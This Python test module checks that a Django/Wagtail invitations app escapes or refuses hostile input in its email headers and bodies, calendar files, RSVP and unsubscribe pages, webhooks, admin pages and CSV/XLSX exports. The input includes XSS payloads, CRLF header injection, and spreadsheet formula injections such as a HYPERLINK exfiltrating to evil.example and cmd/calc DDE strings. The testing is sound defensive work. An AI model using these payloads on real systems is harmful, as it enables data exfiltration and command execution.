"""The hostile-input set through the invitations app: template fields and merge values in
the messages it sends (subject header, plain-text part, HTML part, calendar file), the
admin pages and exports that show templates, audiences, batches, recipients, suppressions,
tracking events and the demo outbox, and the public RSVP and unsubscribe links."""

import base64
import csv
import datetime
import email
import email.policy
import html
import io
import json
import re
from email.utils import parseaddr

import openpyxl
import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter

from campaign.core.models import CampaignSettings
from campaign.institutions.models import GuidedSession
from campaign.invitations import services, tokens
from campaign.invitations.ics import session_ics
from campaign.invitations.merge import MERGE_FIELDS
from campaign.invitations.models import (
    Batch,
    OutboxMessage,
    Recipient,
    RsvpAnswer,
    Suppression,
    TrackingEvent,
)
from campaign.invitations.models.messaging import EMAIL_FEATURES
from tests.factories import BatchFactory, RecipientFactory
from tests.invitations.conftest import start

from .hostile import CRLF, INVALID_UTF8, LONG, PAYLOAD, PAYLOAD_SHORT, assert_html_safe, assert_text_literal

pytestmark = pytest.mark.django_db

_MESSAGE = {"email", "admin"}  # sent, and shown in the admin's preview
COVERS = {
    ("invitations.EmailTemplate", "name"): {"admin"},
    ("invitations.EmailTemplate", "subject_id"): _MESSAGE | {"refused"},
    ("invitations.EmailTemplate", "subject_en"): _MESSAGE,
    ("invitations.EmailTemplate", "body_id"): _MESSAGE,
    ("invitations.EmailTemplate", "body_en"): _MESSAGE,
    ("invitations.EmailTemplate", "button_label_id"): _MESSAGE,
    ("invitations.EmailTemplate", "button_label_en"): _MESSAGE,
    ("invitations.Audience", "name"): {"admin"},
    ("invitations.Batch", "name"): {"admin", "export"},
    ("invitations.Batch", "last_error"): {"admin"},
    ("invitations.Recipient", "name"): {"email", "admin", "export", "refused"},
    ("invitations.Recipient", "error"): {"admin", "export"},
    ("invitations.RsvpAnswer", "note"): {"page", "admin", "refused"},
    ("invitations.Suppression", "source"): {"admin", "export"},
    ("invitations.Suppression", "detail"): {"admin", "export"},
    ("invitations.TrackingEvent", "email"): {"admin"},
    ("invitations.TrackingEvent", "detail"): {"admin"},
    ("invitations.OutboxMessage", "from_email"): {"admin"},
    ("invitations.OutboxMessage", "to"): {"admin"},
    ("invitations.OutboxMessage", "subject"): {"admin"},
    ("invitations.OutboxMessage", "text"): {"admin"},
    ("invitations.OutboxMessage", "html"): {"admin"},
    # Merge values: what the messages say about their recipient and sender.
    ("institutions.Institution", "name"): {"email", "ics", "page", "admin", "export"},
    ("institutions.Institution", "address"): {"ics"},
    ("institutions.Contact", "name"): {"email"},
    ("institutions.Contact", "position"): {"email"},
    ("institutions.MediaPartner", "name"): {"email"},
    ("institutions.Team", "name"): {"email", "ics", "page"},
    ("core.CampaignSettings", "organisation_name"): {"email"},
    ("core.CampaignSettings", "address"): {"email"},
    ("core.CampaignSettings", "hotline"): {"email"},
}

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# What an invitation's header block may hold: a value that smuggles in another header
# (Bcc, Reply-To, Content-Type of its own, ...) shows up here.
HEADERS = {
    "content-type",
    "mime-version",
    "content-transfer-encoding",
    "subject",
    "from",
    "to",
    "date",
    "message-id",
    "list-unsubscribe",
    "list-unsubscribe-post",
}


@pytest.fixture(autouse=True)
def anymail_outbox(settings):
    settings.MAILERS = {"default": {"BACKEND": "anymail.backends.test.EmailBackend"}}
    mail.outbox = []
    yield
    mail.outbox = []


@pytest.fixture
def admin(world):
    client = Client()
    client.force_login(world.users["admin"])
    return client


# --- Helpers ------------------------------------------------------------------------------


def send(batch):
    """Send a batch's pending recipients now, as the worker does."""
    Batch.objects.filter(pk=batch.pk).update(status=Batch.Status.SENDING)
    return services.batch_send_chunk(batch_id=batch.pk)


def parts(message):
    (alternative,) = message.alternatives
    assert alternative.mimetype == "text/html"
    return message.body, alternative.content


def parsed(message):
    """The message as a mail client reads it, after checking its header block: no header
    but ours, every line within RFC 5322's limit of 998 octets."""
    raw = message.message().as_bytes()
    head = re.split(rb"\r?\n\r?\n", raw, maxsplit=1)[0]
    names = []
    for line in head.splitlines():
        assert len(line) <= 998, line[:80]
        if line[:1] not in (b" ", b"\t"):
            names.append(line.split(b":", 1)[0].decode("ascii").lower())
    assert set(names) <= HEADERS, set(names) - HEADERS
    assert len(names) == len(set(names)), names  # no header twice
    return email.message_from_bytes(raw, policy=email.policy.default)


def rsvp_path(recipient):
    return tokens.rsvp_url(recipient.pk).removeprefix("http://testserver")


def unsubscribe_path(recipient):
    return tokens.unsubscribe_url(recipient.pk).removeprefix("http://testserver")


def preview(client, template, recipient=None, language="id"):
    """The admin's preview page and the HTML it shows in its iframe."""
    query = f"?language={language}" + (f"&recipient={recipient.pk}" if recipient else "")
    page = client.get(reverse("invitations_template_preview", args=[template.pk]) + query)
    frame = client.get(reverse("invitations_template_preview_html", args=[template.pk]) + query)
    assert page.status_code == 200 and frame.status_code == 200
    return page.content.decode(), frame.content.decode()


def rich_text(value):
    """A body as the editor stores what was typed into it: text, escaped."""
    return f"<p>Yth. {{{{ contact_name }}}},</p><p>{html.escape(value)}</p>"


def template_form(template, **changes):
    """The admin edit form of a template, as the browser posts it."""
    converter = ContentstateConverter(features=EMAIL_FEATURES)
    data = {
        "name": template.name,
        "subject_id": template.subject_id,
        "body_id": converter.from_database_format(template.body_id),
        "button_label_id": template.button_label_id,
        "subject_en": template.subject_en,
        "body_en": converter.from_database_format(template.body_en),
        "button_label_en": template.button_label_en,
    }
    for name, value in changes.items():
        data[name] = converter.from_database_format(value) if name.startswith("body") else value
    return data


# --- Template fields in the sent message and the preview ------------------------------------

TEMPLATE_FIELDS = [
    ("subject_id", "id", PAYLOAD),
    ("subject_en", "en", PAYLOAD),
    ("body_id", "id", PAYLOAD),
    ("body_en", "en", PAYLOAD),
    ("button_label_id", "id", PAYLOAD_SHORT),
    ("button_label_en", "en", PAYLOAD_SHORT),
]


@pytest.mark.parametrize(("field", "language", "value"), TEMPLATE_FIELDS)
def test_template_fields_are_literal_in_text_escaped_in_html_and_never_evaluated(
    world, admin, field, language, value
):
    recipient = world.objects["recipient"]
    Recipient.objects.filter(pk=recipient.pk).update(language=language)
    stored = rich_text(value) if field.startswith("body") else value
    template = services.email_template_save(template=recipient.batch.template, **{field: stored})
    assert send(recipient.batch).sent == 1

    (message,) = mail.outbox
    text, html_part = parts(message)
    received = parsed(message)
    page, frame = preview(admin, template, recipient, language)
    if field.startswith("subject"):
        assert_text_literal(str(received["Subject"]), value)
        assert_html_safe(page, value)
    else:
        assert_text_literal(text, value)
        assert_html_safe(html_part, value)
        assert_html_safe(page, value)  # the plain-text part, shown in the page
        assert_html_safe(frame, value)


def test_a_template_name_is_escaped_on_every_admin_page_that_names_it(world, admin):
    template = world.objects["emailtemplate"]
    template = services.email_template_save(template=template, name=PAYLOAD)
    batch = world.objects["batch"]
    for url in [
        reverse("wagtailsnippets_invitations_emailtemplate:list"),
        reverse("wagtailsnippets_invitations_emailtemplate:edit", args=[template.pk]),
        reverse("invitations_template_preview", args=[template.pk]),
        reverse("invitations_batch_report", args=[batch.pk]),
        reverse("wagtailsnippets_invitations_batch:list"),
    ]:
        response = admin.get(url)
        assert response.status_code == 200, url
        assert_html_safe(response.content.decode(), PAYLOAD)


# --- Merge values -----------------------------------------------------------------------


def _registry_object(world, label):
    if label == "core.CampaignSettings":
        return CampaignSettings.objects.get()
    return {
        "institutions.Institution": world.objects["institution"],
        "institutions.Contact": world.objects["contact"],
        "institutions.Team": world.teams[0],
        "institutions.MediaPartner": world.objects["mediapartner"],
    }[label]


def _store(world, label, name, value):
    """Store ``value`` as an editor could: it passes the field's own validation."""
    target = _registry_object(world, label)
    field = target._meta.get_field(name)
    field.run_validators(value)
    setattr(target, name, value)
    target.save()
    return target


# A body that says everything merge.py knows about its recipient.
EVERY_MERGE_FIELD = "<p>" + "</p><p>".join("{{ " + name + " }}" for name in MERGE_FIELDS) + "</p>"
# A media partner has no team, session or guide: every field in an optional block.
EVERY_MERGE_FIELD_OPTIONAL = (
    "<p>" + "</p><p>".join("[[{{ " + name + " }}]]" for name in MERGE_FIELDS) + "</p>"
)

MERGE_VALUES = [
    ("institutions.Institution", "name", PAYLOAD),
    ("institutions.Contact", "name", PAYLOAD),
    ("institutions.Contact", "position", PAYLOAD),
    ("institutions.Team", "name", PAYLOAD),
    ("core.CampaignSettings", "organisation_name", PAYLOAD),
    ("core.CampaignSettings", "address", PAYLOAD),
    ("core.CampaignSettings", "hotline", PAYLOAD_SHORT),
]


@pytest.mark.parametrize(("label", "name", "value"), MERGE_VALUES)
def test_merge_values_are_literal_in_text_and_escaped_in_html(
    world, admin, django_capture_on_commit_callbacks, label, name, value
):
    _store(world, label, name, value)
    template = services.email_template_save(
        template=world.objects["emailtemplate"], body_id=EVERY_MERGE_FIELD
    )
    # A new batch copies name, team and session from the registry, as staff start one.
    batch = BatchFactory(template=template, audience=world.objects["audience"])
    batch = start(batch, django_capture_on_commit_callbacks)

    (message,) = mail.outbox
    text, html_part = parts(message)
    received = parsed(message)
    assert_text_literal(text, value)
    assert_html_safe(html_part, value)
    if (label, name) == ("institutions.Institution", "name"):  # {{ institution }} in the subject
        assert_text_literal(str(received["Subject"]), value)
    page, frame = preview(admin, batch.template, batch.recipients.get())
    assert_html_safe(page, value)
    assert_html_safe(frame, value)


def test_a_media_partner_name_is_merged_like_an_institution_name(world):
    partner = _store(world, "institutions.MediaPartner", "name", PAYLOAD)
    contact = world.objects["partner"]
    recipient = RecipientFactory(contact=contact, institution=None, media_partner=partner)
    services.email_template_save(template=recipient.batch.template, body_id=EVERY_MERGE_FIELD_OPTIONAL)
    assert send(recipient.batch).sent == 1
    (message,) = mail.outbox
    text, html_part = parts(message)
    assert_text_literal(str(parsed(message)["Subject"]), PAYLOAD)
    assert_text_literal(text, PAYLOAD)
    assert_html_safe(html_part, PAYLOAD)


# --- CRLF: never a header of its own ----------------------------------------------------

CRLF_REFUSED = [  # a value that lands in a header: the message is not sent
    ("institutions.Contact", "name"),  # the To display name
    ("institutions.Institution", "name"),  # {{ institution }} in the subject
]
CRLF_IN_BODY = [  # a value that lands in the body only: sent, the header block intact
    ("institutions.Contact", "position"),
    ("institutions.Team", "name"),
    ("core.CampaignSettings", "organisation_name"),
    ("core.CampaignSettings", "address"),
]


@pytest.mark.parametrize(("label", "name"), CRLF_REFUSED + CRLF_IN_BODY)
def test_a_line_break_never_adds_a_header_to_an_invitation(
    world, django_capture_on_commit_callbacks, label, name
):
    _store(world, label, name, CRLF)
    batch = BatchFactory(template=world.objects["emailtemplate"], audience=world.objects["audience"])
    batch = start(batch, django_capture_on_commit_callbacks)
    recipient = batch.recipients.get()
    if (label, name) in CRLF_REFUSED:
        assert mail.outbox == []
        assert recipient.status == Recipient.Status.FAILED
        assert "injeksi header" in recipient.error  # said in the default language
    else:
        (message,) = mail.outbox
        received = parsed(message)
        assert "Bcc" not in received and received["To"].addresses[0].addr_spec == recipient.email
        assert_text_literal(message.body, CRLF)


def test_a_line_break_in_a_template_subject_is_refused_by_the_service_the_form_and_the_sender(world, admin):
    template = world.objects["emailtemplate"]
    with pytest.raises(ValidationError) as error:
        services.email_template_save(template=template, subject_id=CRLF)
    assert "Ganti baris tidak diperbolehkan" in " ".join(error.value.message_dict["subject_id"])

    url = reverse("wagtailsnippets_invitations_emailtemplate:edit", args=[template.pk])
    for field in ("subject_id", "subject_en"):
        response = admin.post(url, template_form(template, **{field: CRLF}))
        assert response.status_code == 200
        assert "Ganti baris tidak diperbolehkan di sini." in response.content.decode()
    template.refresh_from_db()
    assert "\n" not in template.subject_id + template.subject_en

    # Written past validation (an old row, a raw import): the sender refuses it too.
    type(template).objects.filter(pk=template.pk).update(subject_id=CRLF)
    recipient = world.objects["recipient"]
    assert send(recipient.batch).failed == 1
    recipient.refresh_from_db()
    assert recipient.status == Recipient.Status.FAILED and "injeksi header" in recipient.error
    assert mail.outbox == []


@pytest.mark.parametrize("where", ["recipient_name", "institution_name", "subject"])
def test_preview_and_test_send_refuse_a_line_break_in_the_subject_with_a_message_not_a_500(
    world, admin, where
):
    recipient = world.objects["recipient"]
    template = recipient.batch.template
    if where == "recipient_name":  # in the body only: a test goes to the editor's address
        Recipient.objects.filter(pk=recipient.pk).update(name=CRLF)
    elif where == "institution_name":  # {{ institution }} in the subject
        _store(world, "institutions.Institution", "name", CRLF)
    else:
        type(template).objects.filter(pk=template.pk).update(subject_id=CRLF)
    query = f"?recipient={recipient.pk}&language=id"
    url = reverse("invitations_template_preview", args=[template.pk]) + query
    page = admin.get(url)
    frame = admin.get(reverse("invitations_template_preview_html", args=[template.pk]) + query)
    response = admin.post(url)
    assert page.status_code == 200 and response.status_code == 302
    after = admin.get(response["Location"]).content.decode()

    if where == "recipient_name":
        assert_html_safe(page.content.decode(), CRLF)
        assert frame.status_code == 200
        (message,) = mail.outbox
        received = parsed(message)
        assert "Bcc" not in received and received["To"].addresses[0].addr_spec == "admin@example.org"
        assert_text_literal(message.body, CRLF)
        assert "Pesan uji dikirim ke admin@example.org." in after
    else:
        assert "injeksi header" in page.content.decode()
        assert frame.status_code == 400 and frame["Content-Type"].startswith("text/plain")
        assert "injeksi header" in frame.content.decode()
        assert mail.outbox == []
        assert "injeksi header" in after


def test_a_line_break_in_the_institution_name_never_reaches_the_confirmation_headers(
    world, django_capture_on_commit_callbacks
):
    _store(world, "institutions.Institution", "name", CRLF)
    recipient = world.objects["recipient"]
    with django_capture_on_commit_callbacks(execute=True):
        response = Client().post(rsvp_path(recipient), {"answer": "accept"})
    assert response.status_code == 302  # the answer is recorded all the same
    answer = RsvpAnswer.objects.get(recipient=recipient)
    assert mail.outbox == []
    # The service refuses the message quietly instead of failing the task.
    assert services.rsvp_confirmation_send(answer_id=answer.pk) is False
    assert mail.outbox == []


# --- The confirmation message and its calendar file ------------------------------------------

ICS_TEXT = 'Dinas, Kupang; "A\\B" \r\nATTENDEE:mailto:korban@example.org\r\nEND:VEVENT\nX\rY'
ICS_OTHER_BREAKS = "Alak\u2028ATTENDEE:mailto:a@example.org\x85END:VEVENT\x0bX\x0cY\u2029Z"
ICS_PROPERTIES = [
    "BEGIN",
    "VERSION",
    "PRODID",
    "CALSCALE",
    "METHOD",
    "BEGIN",
    "UID",
    "DTSTAMP",
    "DTSTART",
    "DTEND",
    "SEQUENCE",
    "STATUS",
    "SUMMARY",
    "DESCRIPTION",
    "LOCATION",
    "END",
    "END",
]
_ICS_TEXT_VALUE = re.compile(r"(?:[^\\;,]|\\[\\;,nN])*")


def ics_properties(data) -> dict[str, str]:
    """RFC 5545 read strictly: CRLF-delimited lines of at most 75 octets, unfolded; no
    other line break anywhere (parsers that split on str.splitlines must agree); every
    property expected, once, in order; text values unescaped."""
    data = data if isinstance(data, bytes) else data.encode()
    text = data.decode("utf-8")
    assert text.endswith("\r\n")
    physical = text[:-2].split("\r\n")
    assert text.splitlines() == physical, "a line break other than CRLF"
    lines = []
    for line in physical:
        assert len(line.encode()) <= 75, line
        if line.startswith((" ", "\t")):
            lines[-1] += line[1:]
        else:
            lines.append(line)
    names = [line.partition(":")[0] for line in lines]
    assert names == ICS_PROPERTIES, names
    found = {}
    for line in lines:
        name, _colon, value = line.partition(":")
        if name in ("SUMMARY", "DESCRIPTION", "LOCATION"):
            assert _ICS_TEXT_VALUE.fullmatch(value), value  # ; , \ escaped
            value = re.sub(r"\\([\\;,nN])", lambda m: "\n" if m.group(1) in "nN" else m.group(1), value)
        found[name] = value
    return found


def _ics_expected(value):
    return value.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("value", [ICS_TEXT, PAYLOAD, ICS_OTHER_BREAKS, "Jalan El Tari № 5 ☎ " * 1_000])
def test_calendar_values_are_escaped_and_folded_per_rfc_5545(value):
    data = session_ics(
        uid="session-1",
        starts_at=timezone.now(),
        summary=value,
        description=value,
        location=value,
    )
    found = ics_properties(data)
    for name in ("SUMMARY", "DESCRIPTION", "LOCATION"):
        shown = found[name]
        if value == ICS_OTHER_BREAKS:  # shown as line breaks, never as lines of the file
            assert shown.split("\n")[0] == "Alak" and "ATTENDEE:mailto:a@example.org" in shown
        else:
            assert shown == _ics_expected(value)


def test_confirmation_message_and_calendar_file_show_hostile_names_literally(
    world, django_capture_on_commit_callbacks
):
    institution = _store(world, "institutions.Institution", "name", 'Dinas, Kupang; "A\\B" ' + PAYLOAD)
    _store(world, "institutions.Institution", "address", ICS_TEXT)
    team = _store(world, "institutions.Team", "name", "Tim 1, Alak; \\ \r\nATTENDEE:mailto:x@example.org")
    _store(world, "core.CampaignSettings", "organisation_name", PAYLOAD)
    _store(world, "core.CampaignSettings", "hotline", PAYLOAD_SHORT)
    recipient = world.objects["recipient"]
    Recipient.objects.filter(pk=recipient.pk).update(
        team=team, proposed_at=timezone.now() + datetime.timedelta(days=3)
    )
    with django_capture_on_commit_callbacks(execute=True):
        assert Client().post(rsvp_path(recipient), {"answer": "accept"}).status_code == 302

    (message,) = mail.outbox
    text, html_part = parts(message)
    received = parsed(message)
    assert_text_literal(str(received["Subject"]), institution.name)
    for value in (team.name, PAYLOAD, PAYLOAD_SHORT):
        assert_text_literal(text, value)
        assert_html_safe(html_part, value)
    (attachment,) = message.attachments
    found = ics_properties(attachment.content)
    assert institution.name in found["SUMMARY"]
    assert found["DESCRIPTION"] == _ics_expected(team.name)
    assert found["LOCATION"] == _ics_expected(ICS_TEXT)


# --- Public pages: RSVP and unsubscribe ---------------------------------------------------


def test_rsvp_page_escapes_institution_and_team_names(world):
    _store(world, "institutions.Institution", "name", PAYLOAD)
    _store(world, "institutions.Team", "name", "Tim " + PAYLOAD)
    recipient = world.objects["recipient"]
    Recipient.objects.filter(pk=recipient.pk).update(team=world.teams[0])
    page = Client().get(rsvp_path(recipient))
    assert page.status_code == 200
    assert_html_safe(page.content.decode(), PAYLOAD)
    assert_html_safe(page.content.decode(), "Tim " + PAYLOAD)


def test_rsvp_note_is_escaped_when_the_form_comes_back_and_where_staff_read_it(
    world, admin, django_capture_on_commit_callbacks
):
    recipient = world.objects["recipient"]
    Recipient.objects.filter(pk=recipient.pk).update(
        team=world.teams[0], proposed_at=timezone.now() + datetime.timedelta(days=3)
    )
    client = Client()
    refused = client.post(rsvp_path(recipient), {"answer": "propose", "note": PAYLOAD})
    assert refused.status_code == 200 and not RsvpAnswer.objects.exists()
    assert_html_safe(refused.content.decode(), PAYLOAD)  # the form again, note kept

    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(rsvp_path(recipient), {"answer": "accept", "note": PAYLOAD}).status_code == 302
    assert RsvpAnswer.objects.get().note == PAYLOAD
    session = GuidedSession.objects.get(pk=Recipient.objects.get(pk=recipient.pk).session_id)
    staff = admin.get(reverse("wagtailsnippets_institutions_guidedsession:edit", args=[session.pk]))
    assert staff.status_code == 200
    assert_html_safe(staff.content.decode(), PAYLOAD)


def test_a_long_rsvp_note_is_refused_by_the_form_and_cut_by_the_service(world):
    recipient = world.objects["recipient"]
    response = Client().post(rsvp_path(recipient), {"answer": "decline", "note": LONG})
    assert response.status_code == 200
    assert "paling banyak 500 karakter" in response.content.decode()
    assert not RsvpAnswer.objects.exists()
    services.rsvp_record(recipient=recipient, answer="decline", note=LONG)
    assert RsvpAnswer.objects.get().note == LONG[:500]


@pytest.mark.parametrize(
    "body",
    [
        b"answer=accept&note=" + INVALID_UTF8,
        b"answer=\xff\xfe&note=x",
        b"answer=accept&note=%FF%FE%C3%28",
        INVALID_UTF8,
    ],
)
def test_rsvp_with_invalid_utf8_is_answered_calmly_and_never_half_written(
    world, django_capture_on_commit_callbacks, body
):
    recipient = world.objects["recipient"]
    with django_capture_on_commit_callbacks(execute=True):
        response = Client().generic(
            "POST", rsvp_path(recipient), body, content_type="application/x-www-form-urlencoded"
        )
    assert response.status_code in (200, 302, 400)
    recipient.refresh_from_db()
    answers = list(RsvpAnswer.objects.filter(recipient=recipient))
    if response.status_code == 302:  # recorded whole: the answer, the note, the session
        (answer,) = answers
        assert recipient.answer == answer.answer == "accept" and recipient.answered_at
        assert answer.note.startswith("Dinas") or "\ufffd" in answer.note
    else:
        assert answers == [] and recipient.answer == "" and not recipient.answered_at


@pytest.mark.parametrize(
    "body", [b"List-Unsubscribe=One-Click" + INVALID_UTF8, INVALID_UTF8, b"List-Unsubscribe=\xff"]
)
def test_one_click_unsubscribe_with_invalid_utf8_still_unsubscribes_once(world, body):
    recipient = world.objects["recipient"]
    client = Client(enforce_csrf_checks=True)
    for _ in range(2):
        response = client.generic(
            "POST", unsubscribe_path(recipient), body, content_type="application/x-www-form-urlencoded"
        )
        assert response.status_code == 200
    suppression = Suppression.objects.get(email=recipient.email)
    assert suppression.reason == Suppression.Reason.UNSUBSCRIBED
    recipient.refresh_from_db()
    assert recipient.status == Recipient.Status.SKIPPED


@pytest.mark.parametrize("token", ["%FF%FE%C3%28", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "x" * 5_000])
@pytest.mark.parametrize("kind", ["rsvp", "unsubscribe"])
def test_broken_tokens_get_the_friendly_page(world, kind, token):
    path = f"/undangan/{token}/" if kind == "rsvp" else f"/undangan/berhenti/{token}/"
    for method in ("get", "post"):
        response = getattr(Client(), method)(path)
        assert response.status_code == 404
        assert "<script>alert" not in response.content.decode()
    assert not RsvpAnswer.objects.exists() and Suppression.objects.count() == 1  # the world's own


# --- Webhooks ---------------------------------------------------------------------------

WEBHOOK_AUTH = {"HTTP_AUTHORIZATION": "Basic " + base64.b64encode(b"username:password").decode()}


@pytest.mark.parametrize("provider", ["postmark", "brevo", "mailgun", "sendgrid"])
@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (INVALID_UTF8, "application/json"),
        (b'{"RecordType": "Bounce", "Email": "\xff\xfe@example.org"}', "application/json"),
        (b"bukan json", "application/json"),
        (b"[1, 2", "application/json"),
        (b"event=" + INVALID_UTF8, "application/x-www-form-urlencoded"),
    ],
)
def test_webhooks_with_invalid_utf8_or_no_json_are_refused_and_store_nothing(
    world, settings, recwarn, provider, body, content_type
):
    settings.ANYMAIL = {**settings.ANYMAIL, "MAILGUN_WEBHOOK_SIGNING_KEY": "TEST_WEBHOOK_SIGNING_KEY"}
    before = (TrackingEvent.objects.count(), Suppression.objects.count())
    response = Client(enforce_csrf_checks=True).generic(
        "POST", f"/anymail/{provider}/tracking/", body, content_type=content_type, **WEBHOOK_AUTH
    )
    assert 400 <= response.status_code < 500, response.status_code
    assert (TrackingEvent.objects.count(), Suppression.objects.count()) == before


def test_hostile_webhook_values_are_escaped_in_the_admin(world, admin):
    bounce = {
        "RecordType": "Bounce",
        "ID": 42,
        "Type": "HardBounce",
        "MessageID": "m-hostile",
        "Description": PAYLOAD,
        "Details": PAYLOAD,
        "Email": PAYLOAD_SHORT + "@example.org",
        "BouncedAt": "2020-02-27T16:28:50Z",
    }
    response = Client().post(
        "/anymail/postmark/tracking/", json.dumps(bounce), content_type="application/json", **WEBHOOK_AUTH
    )
    assert response.status_code == 200
    event = TrackingEvent.objects.get(message_id="m-hostile")
    suppression = Suppression.objects.get(reason=Suppression.Reason.HARD_BOUNCE)
    address = PAYLOAD_SHORT.lower() + "@example.org"
    assert event.email == suppression.email == address and event.detail == suppression.detail == PAYLOAD

    pages = {
        reverse("wagtailsnippets_invitations_trackingevent:list"): [address],
        reverse("wagtailsnippets_invitations_trackingevent:inspect", args=[event.pk]): [address, PAYLOAD],
        reverse("wagtailsnippets_invitations_suppression:list"): [address],
        reverse("wagtailsnippets_invitations_suppression:edit", args=[suppression.pk]): [address, PAYLOAD],
    }
    for url, values in pages.items():
        page = admin.get(url)
        assert page.status_code == 200, url
        for value in values:
            assert_html_safe(page.content.decode(), value)


# --- Admin pages of batches, audiences and recipients -------------------------------------


def test_batch_audience_and_recipient_values_are_escaped_on_admin_pages(world, admin):
    recipient = world.objects["recipient"]
    batch, audience = recipient.batch, recipient.batch.audience
    values = {
        "audience": "Audiens " + PAYLOAD,
        "batch": "Gelombang " + PAYLOAD,
        "error": "Galat " + PAYLOAD,
        "last_error": "Penyedia " + PAYLOAD + LONG,
        "name": "Nama " + PAYLOAD,
        "institution": "Dinas " + PAYLOAD,
    }
    services.audience_save(audience=audience, name=values["audience"])
    Batch.objects.filter(pk=batch.pk).update(
        name=values["batch"], last_error=values["last_error"], consecutive_errors=2
    )
    Recipient.objects.filter(pk=recipient.pk).update(name=values["name"], error=values["error"])
    _store(world, "institutions.Institution", "name", values["institution"])
    institution = world.objects["institution"]
    pages = {
        reverse("invitations_batch_report", args=[batch.pk]): ["audience", "batch", "last_error"],
        reverse("invitations_audience_report", args=[audience.pk]): ["audience"],
        reverse("wagtailsnippets_invitations_audience:list"): ["audience"],
        reverse("wagtailsnippets_invitations_batch:list"): ["audience", "batch"],
        reverse("wagtailsnippets_invitations_recipient:list"): ["name", "batch", "institution"],
        reverse("wagtailsnippets_invitations_recipient:inspect", args=[recipient.pk]): [
            "name",
            "error",
            "batch",
        ],
        reverse("invitations_institution_history", args=[institution.pk]): ["batch", "name", "institution"],
        reverse("invitations_template_preview", args=[batch.template_id]): ["name", "institution"],
    }
    for url, keys in pages.items():
        page = admin.get(url)
        assert page.status_code == 200, url
        for key in keys:
            assert_html_safe(page.content.decode(), values[key])


def test_a_long_template_subject_is_refused_and_a_long_one_that_fits_is_folded(world, admin):
    template = world.objects["emailtemplate"]
    with pytest.raises(ValidationError) as error:
        services.email_template_save(template=template, subject_id=LONG)
    assert "subject_id" in error.value.message_dict
    url = reverse("wagtailsnippets_invitations_emailtemplate:edit", args=[template.pk])
    for field in ("name", "subject_id", "subject_en", "button_label_id"):
        response = admin.post(url, template_form(template, **{field: LONG}))
        assert response.status_code == 200, field
        assert "paling banyak" in response.content.decode()
    template.refresh_from_db()
    assert LONG not in (template.name, template.subject_id, template.button_label_id)

    subject = ("Undangan ☎ Sensus Penduduk — Kupang " * 6)[:200]
    services.email_template_save(template=template, subject_id=subject)
    recipient = world.objects["recipient"]
    Recipient.objects.filter(pk=recipient.pk).update(name=("Maria Ndun ☎ " * 20)[:200])
    assert send(recipient.batch).sent == 1
    (message,) = mail.outbox
    received = parsed(message)  # every header line within the limit
    assert str(received["Subject"]) == subject
    # Python's parser may read a space into a long encoded name where it was folded.
    assert_text_literal(received["To"].addresses[0].display_name, ("Maria Ndun ☎ " * 20)[:200])


# --- Exports ---------------------------------------------------------------------------


def _csv_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_inert(rows, values):
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    for value in values:
        assert "'" + value in cells, value  # shown, literally


def test_recipient_export_neutralises_formulas_in_every_text_cell(world, admin):
    recipient = world.objects["recipient"]
    name, error, batch_name, institution_name = FORMULAS
    Recipient.objects.filter(pk=recipient.pk).update(name=name, error=error)
    Batch.objects.filter(pk=recipient.batch_id).update(name=batch_name)
    _store(world, "institutions.Institution", "name", institution_name)
    url = reverse("wagtailsnippets_invitations_recipient:list")

    _assert_inert(_csv_rows(admin.get(url, {"export": "csv"})), FORMULAS)
    cells = _xlsx_cells(admin.get(url, {"export": "xlsx"}))
    assert all(cell.data_type != "f" for cell in cells)
    assert set(FORMULAS) <= {cell.value for cell in cells}  # text cells, as typed


def test_suppression_export_neutralises_formulas(world, admin):
    address = "=1+2@example.org"  # a valid address: "=" is allowed before the @
    Suppression.objects.create(
        email=address, reason=Suppression.Reason.MANUAL, source=FORMULAS[0], detail=FORMULAS[1]
    )
    Suppression.objects.create(
        email="lain@example.org", reason=Suppression.Reason.MANUAL, source=FORMULAS[2], detail=FORMULAS[3]
    )
    url = reverse("wagtailsnippets_invitations_suppression:list")
    _assert_inert(_csv_rows(admin.get(url, {"export": "csv"})), [*FORMULAS, address])
    cells = _xlsx_cells(admin.get(url, {"export": "xlsx"}))
    assert all(cell.data_type != "f" for cell in cells)
    assert set(FORMULAS) <= {cell.value for cell in cells}


def test_suppression_source_and_detail_are_escaped_in_the_admin(world, admin):
    suppression = Suppression.objects.create(
        email="korban@example.org",
        reason=Suppression.Reason.MANUAL,
        source="Staf " + PAYLOAD,
        detail="Rincian " + PAYLOAD,
    )
    listing = admin.get(reverse("wagtailsnippets_invitations_suppression:list")).content.decode()
    assert_html_safe(listing, "Staf " + PAYLOAD)
    edit = admin.get(reverse("wagtailsnippets_invitations_suppression:edit", args=[suppression.pk]))
    assert edit.status_code == 200
    for value in ("Staf " + PAYLOAD, "Rincian " + PAYLOAD):
        assert_html_safe(edit.content.decode(), value)


# --- The demo outbox ----------------------------------------------------------------------


def test_outbox_shows_stored_messages_escaped_and_their_html_only_sandboxed(world, admin):
    message = OutboxMessage.objects.create(
        message_id="m-hostile",
        from_email="Dari " + PAYLOAD + " <a@example.org>",
        to="Untuk " + PAYLOAD + " <b@example.org>",
        subject="Subjek " + PAYLOAD,
        text="Teks " + PAYLOAD,
        html=f"<p>Isi {PAYLOAD}</p>",
    )
    listing = admin.get(reverse("wagtailsnippets_invitations_outboxmessage:list")).content.decode()
    inspect = admin.get(reverse("wagtailsnippets_invitations_outboxmessage:inspect", args=[message.pk]))
    assert inspect.status_code == 200
    for value in ("Untuk " + PAYLOAD, "Subjek " + PAYLOAD):
        assert_html_safe(listing, value)
